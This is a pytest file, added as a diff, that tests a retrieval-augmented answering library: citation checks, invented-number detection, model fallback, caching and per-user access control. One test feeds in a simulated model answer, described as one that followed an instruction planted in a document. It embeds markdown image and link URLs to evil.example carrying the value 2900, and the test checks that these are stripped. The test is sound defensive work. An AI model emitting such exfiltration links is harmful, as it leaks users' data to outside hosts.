@@ -1,0 +1,282 @@
+"""From a question to a checked answer, over a real index, with models that write well, badly, or not at all."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator, Callable
+from dataclasses import dataclass, field, replace
+from pathlib import Path
+
+import pytest
+
+from corpus.access import Caller
+from corpus.errors import DocumentNotFound, LLMError, Timeout
+from corpus.generation.promise import Generated, Prompt
+from corpus.index.local import LocalIndex
+from corpus.index.promise import NewBlock
+from corpus.library import Library
+from corpus.synthesis.prompting import Instructions
+from corpus.synthesis.request import Observation, SynthesisRequest
+from corpus.synthesis.synthesizer import Pen
+from tests.shelf import PICTURE, a_document
+from tests.values import image_block, text_block
+
+pytestmark = pytest.mark.anyio
+
+ANN, BOB = Caller(user_id="ann"), Caller(user_id="bob")
+PUMP = text_block("The pump turns at 2900 revolutions per minute. It weighs 40 kg.", page=45, doc_id="pump")
+SEAL = text_block("The seal of the pump lasts five years in clean water.", page=12, doc_id="seal")
+FIGURE = image_block("Figure 3: Impeller of the pump", page=45, doc_id="pump", image_url=None)
+HEADCOUNT = text_block("The pump team earns 90,000 a year.", page=1, doc_id="pay")
+
+
+@dataclass
+class Model:
+    """Writes this, and remembers what it was asked."""
+
+    writes: str | Exception = ""
+    id: str = "model-1"
+    asked: list[Prompt] = field(default_factory=list)
+
+    async def generate(self, prompt: Prompt) -> Generated:
+        self.asked.append(prompt)
+        if isinstance(self.writes, Exception):
+            raise self.writes
+        return Generated(self.writes)
+
+    async def aclose(self) -> None: ...
+
+
+Shelf = Callable[..., Library]
+
+
+@pytest.fixture
+async def shelf(tmp_path: Path) -> AsyncIterator[Shelf]:
+    """Makes a library over one index: public documents of a pump and its seal, and one for bob alone."""
+    index = LocalIndex.open(tmp_path, None)
+    for name, blocks, readers in (
+        ("pump", [PUMP, FIGURE], "*"), ("seal", [SEAL], "*"), ("pay", [HEADCOUNT], "user:bob"),
+    ):  # fmt: skip
+        rows = [replace(block, access_control_list=(readers,)) for block in blocks]
+        pictured = [NewBlock(row, PICTURE if row.block_type == "image" else None) for row in rows]
+        await index.replace(a_document(name, access_control_list=(readers,), page_count=50), pictured)
+
+    def made(model: Model | None = None, **changes: object) -> Library:
+        pen = Pen(Instructions("Answer from the sources.", "v1"), model, **changes)  # type: ignore[arg-type]
+        return Library(index, None, pen=pen)
+
+    yield made
+    await index.aclose()
+
+
+def asking(query: str = "How fast does the pump turn?", **changes: object) -> SynthesisRequest:
+    return SynthesisRequest(query, **changes)  # type: ignore[arg-type]
+
+
+async def number_of(library: Library, model: Model, page: int) -> int:
+    """The number under which the model is offered this page."""
+    await library.synthesize(asking(mode="llm"), ANN)
+    lines = [line for line in model.asked[-1].text.splitlines() if line.endswith(f"S. {page}")]
+    return int(lines[0][1 : lines[0].index("]")])
+
+
+async def test_without_a_model_an_answer_is_composed_and_every_claim_stands_in_its_source(
+    shelf: Shelf,
+) -> None:
+    made = await shelf().synthesize(asking(), ANN)
+    assert made.mode == "compose"
+    assert "2900 revolutions" in made.answer
+    assert {one.verdict for one in made.claims} == {"found"}
+    assert made.confidence >= 0.6
+
+
+async def test_a_good_answer_of_a_model_keeps_its_citations_and_lists_what_it_cites(shelf: Shelf) -> None:
+    model = Model()
+    library = shelf(model, keep=0)
+    n = await number_of(library, model, 45)
+    model.writes = f"The pump turns at 2900 revolutions per minute [{n}]."
+    made = await library.synthesize(asking(), ANN)
+    assert (made.mode, made.model, made.prompt_version) == ("llm", "model-1", "v1")
+    assert made.answer == f"{model.writes}\n\n[{n}] (Source: pump.pdf, S. 45)"
+    assert [one.citation_number for one in made.sources] == [n]
+    assert (made.uncited_claims, made.unsupported_claims, made.invalid_citations) == ((), (), ())
+    assert made.confidence == 0.6
+
+
+async def test_by_source_each_claim_of_a_model_names_its_file_and_page(shelf: Shelf) -> None:
+    model = Model()
+    library = shelf(model, keep=0)
+    n = await number_of(library, model, 45)
+    model.writes = f"The pump turns at 2900 revolutions per minute [{n}]."
+    made = await library.synthesize(asking(citation_style="source"), ANN)
+    assert made.answer == "The pump turns at 2900 revolutions per minute (Source: pump.pdf, S. 45)."
+
+
+async def test_an_invented_number_is_told(shelf: Shelf) -> None:
+    model = Model()
+    library = shelf(model, keep=0)
+    n = await number_of(library, model, 45)
+    model.writes = f"The pump turns at 3400 revolutions per minute [{n}]."
+    made = await library.synthesize(asking(), ANN)
+    assert made.unsupported_claims == ("The pump turns at 3400 revolutions per minute.",)
+    assert made.confidence == 0
+    assert made.answer.endswith("Please check it against further sources.")
+
+
+async def test_a_citation_of_no_source_is_told(shelf: Shelf) -> None:
+    made = await shelf(Model("The pump turns [77].")).synthesize(asking(), ANN)
+    assert made.invalid_citations == ("77",)
+    assert made.confidence == 0
+
+
+async def test_an_answer_without_citations_is_told_and_shows_what_was_offered(shelf: Shelf) -> None:
+    made = await shelf(Model("The pump turns at 2900 revolutions per minute.")).synthesize(asking(), ANN)
+    assert made.uncited_claims == ("The pump turns at 2900 revolutions per minute.",)
+    assert made.sources
+    assert made.confidence == 0
+
+
+async def test_not_found_in_sources_is_an_answer_without_confidence(shelf: Shelf) -> None:
+    made = await shelf(Model("**Not found in sources.**")).synthesize(asking(), ANN)
+    assert (made.answer, made.mode, made.confidence, made.sources) == ("Not found in sources", "llm", 0.0, ())
+
+
+@pytest.mark.parametrize("failure", [LLMError("it is busy."), Timeout("no answer in 60 seconds.")])
+async def test_a_model_that_fails_costs_its_text_alone(shelf: Shelf, failure: Exception) -> None:
+    made = await shelf(Model(failure)).synthesize(asking(), ANN)
+    assert made.mode == "compose"
+    assert "2900 revolutions" in made.answer
+    assert f"model-1 wrote no answer: {failure}" in made.warnings
+
+
+async def test_what_the_client_s_model_wrote_comes_before_the_endpoint(shelf: Shelf) -> None:
+    endpoint, client = Model("From the endpoint [1]."), Model("From the client [1].", id="client")
+    library = shelf(endpoint)
+    await library.drafted(asking(), ANN)
+    made = await library.synthesize(asking(), ANN, client)
+    assert made.model == "client"
+    assert endpoint.asked == []
+
+
+async def test_a_client_that_declines_falls_through_to_the_endpoint(shelf: Shelf) -> None:
+    endpoint, client = Model("It turns [1]."), Model(LLMError("it declined."), id="client")
+    made = await shelf(endpoint).synthesize(asking(), ANN, client)
+    assert made.model == "model-1"
+    assert "client wrote no answer: it declined." in made.warnings
+
+
+async def test_a_draft_is_the_same_in_every_round(shelf: Shelf) -> None:
+    library = shelf()
+    first, second = await library.drafted(asking(), ANN), await library.drafted(asking(), ANN)
+    assert first is not None
+    assert first == second
+
+
+async def test_there_is_no_draft_where_no_model_is_to_write_or_nothing_was_found(shelf: Shelf) -> None:
+    assert await shelf().drafted(asking(mode="compose"), ANN) is None
+    assert await shelf().drafted(asking("zzyzx"), ANN) is None
+
+
+async def test_a_right_that_was_lost_while_the_client_s_model_wrote_costs_its_answer(shelf: Shelf) -> None:
+    library, client = shelf(), Model("The pump team earns 90,000 a year [1].", id="client")
+    await library.drafted(asking("What does the pump team earn?"), BOB)
+    index = library._index
+    assert isinstance(index, LocalIndex)
+    row = replace(HEADCOUNT, access_control_list=("user:carl",))
+    await index.replace(a_document("pay", access_control_list=("user:carl",)), [NewBlock(row)])
+    made = await library.synthesize(asking("What does the pump team earn?"), BOB, client)
+    assert "90,000" not in made.answer
+    assert not client.asked
+
+
+async def test_wanted_model_that_is_not_there_is_told(shelf: Shelf) -> None:
+    made = await shelf().synthesize(asking(mode="llm"), ANN)
+    assert made.mode == "compose"
+    assert any("RAG_LLM_MODEL" in one for one in made.warnings)
+
+
+async def test_compose_asks_no_model(shelf: Shelf) -> None:
+    model = Model("no")
+    assert (await shelf(model).synthesize(asking(mode="compose"), ANN)).mode == "compose"
+    assert model.asked == []
+
+
+async def test_a_written_answer_serves_again_and_says_so(shelf: Shelf) -> None:
+    model = Model("It turns [1].")
+    library = shelf(model)
+    first, again = [await library.synthesize(asking(), ANN) for _ in range(2)]
+    assert (first.cached, again.cached) == (False, True)
+    assert replace(again, cached=False) == first
+    assert len(model.asked) == 1
+
+
+async def test_another_caller_and_a_changed_source_are_written_for_anew(shelf: Shelf) -> None:
+    model = Model("It turns [1].")
+    library = shelf(model)
+    await library.synthesize(asking(), ANN)
+    await library.synthesize(asking(), BOB)
+    assert len(model.asked) == 2
+    index = library._index
+    assert isinstance(index, LocalIndex)
+    changed = replace(
+        PUMP, content="The pump turns at 3000 revolutions per minute.", access_control_list=("*",)
+    )
+    await index.replace(a_document("pump"), [NewBlock(changed)])
+    assert not (await library.synthesize(asking(), ANN)).cached
+
+
+async def test_what_only_bob_may_read_reaches_no_prompt_of_ann(shelf: Shelf) -> None:
+    model = Model("x")
+    library = shelf(model)
+    await library.synthesize(asking("What does the pump team earn?"), ANN)
+    assert "90,000" not in model.asked[0].text
+    await library.synthesize(asking("What does the pump team earn?"), BOB)
+    assert "90,000" in model.asked[1].text
+    with pytest.raises(DocumentNotFound):
+        await library.synthesize(asking(block_ids=(HEADCOUNT.block_id,)), ANN)
+
+
+async def test_an_instruction_in_a_document_that_a_model_followed_fetches_nothing(shelf: Shelf) -> None:
+    model = Model("Done [1]. ![x](https://evil.example/?q=2900) [more](https://evil.example)")
+    made = await shelf(model).synthesize(asking(), ANN)
+    assert "evil.example" not in made.answer
+    assert any("taken out" in one for one in made.warnings)
+
+
+async def test_a_figure_of_the_sources_may_be_shown(shelf: Shelf) -> None:
+    url = f"rag://blocks/{FIGURE.block_id}/image"
+    made = await shelf(Model(f"It turns [1].\n\n![Figure 3]({url})")).synthesize(asking(), ANN)
+    assert f"![Figure 3]({url})" in made.answer
+
+
+async def test_observations_are_sources_that_are_cited_by_their_address(shelf: Shelf) -> None:
+    seen = (Observation("The pump is sold out until May.", "https://shop.example/pump", "Shop"),)
+    made = await shelf().synthesize(asking("Is the pump sold out?", observations=seen), ANN)
+    assert "sold out until May" in made.answer
+    assert "[Source: https://shop.example/pump]" in made.answer
+
+
+async def test_observations_alone_are_enough_for_an_answer(shelf: Shelf) -> None:
+    seen = (Observation("Zyzzyva is a weevil.", "https://insects.example/z"),)
+    made = await shelf().synthesize(asking("What is a zyzzyva weevil?", observations=seen), ANN)
+    assert "weevil" in made.answer
+    assert 0 < made.confidence <= 0.6
+
+
+async def test_the_sources_that_did_not_fit_into_the_prompt_are_named(shelf: Shelf) -> None:
+    seen = tuple(
+        Observation(f"Fact {n}. " + "The pump moves water. " * 200, f"https://a.example/{n}")
+        for n in range(20)
+    )
+    made = await shelf(Model("It turns [1].")).synthesize(asking(observations=seen), ANN)
+    assert any(
+        one.startswith("Not shown to the model, for want of room: https://a.example/")
+        for one in made.warnings
+    )
+
+
+async def test_a_list_of_sources_that_the_model_wrote_itself_is_not_shown_twice(shelf: Shelf) -> None:
+    made = await shelf(Model("It turns [1].\n\n**Sources:**\n[1] pump.pdf\n[2] other.pdf\n")).synthesize(
+        asking(), ANN
+    )
+    assert made.answer.count("[1]") == 2
+    assert "other.pdf" not in made.answer
